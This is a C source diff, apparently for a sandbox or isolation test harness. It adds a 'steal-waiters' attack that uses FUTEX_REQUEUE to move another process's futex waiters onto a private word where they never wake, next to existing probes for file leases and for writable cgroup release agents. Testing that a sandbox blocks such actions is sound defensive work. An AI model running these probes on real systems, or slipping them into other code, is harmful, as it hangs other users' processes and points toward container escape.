@@ -2,10 +2,13 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <limits.h>
+#include <linux/futex.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -211,6 +214,19 @@ static int take_lease(char **args)
 	return attack_result(fd < 0 ? -1 : fcntl(fd, F_SETLEASE, F_RDLCK));
 }
 
+/* FILE: moves whoever waits at its first word to a word of our own, where nobody wakes them */
+static int steal_waiters(char **args)
+{
+	int fd = open(args[0], O_RDONLY | O_CLOEXEC);
+	void *theirs = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
+	void *ours = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+
+	if (theirs == MAP_FAILED || ours == MAP_FAILED)
+		return -errno;
+	return attack_result(
+		syscall(SYS_futex, theirs, FUTEX_REQUEUE, 0, (void *)(intptr_t)INT_MAX, ours, 0));
+}
+
 /* DIRECTORY: the first directory of cgroups whose release agent or members can be set */
 static int open_cgroup(char **args)
 {
@@ -271,5 +287,6 @@ const struct attack attack_files[] = {
 	{ "open-cgroup", open_cgroup },
 	{ "search-mounts", search_mounts },
 	{ "lease", take_lease },
+	{ "steal-waiters", steal_waiters },
 	{ NULL, NULL },
 };
